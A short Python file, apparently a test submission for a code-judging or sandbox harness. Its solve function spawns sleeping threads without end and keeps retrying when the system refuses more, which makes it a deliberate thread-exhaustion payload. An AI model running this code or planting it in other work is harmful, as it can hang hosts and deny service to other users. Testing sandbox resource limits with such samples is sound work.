# ruff: noqa
# fmt: off
"""Starts threads without end, and goes on when it can start no more."""

import threading
import time


def solve(n):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,)).start()
        except RuntimeError:
            time.sleep(0.01)
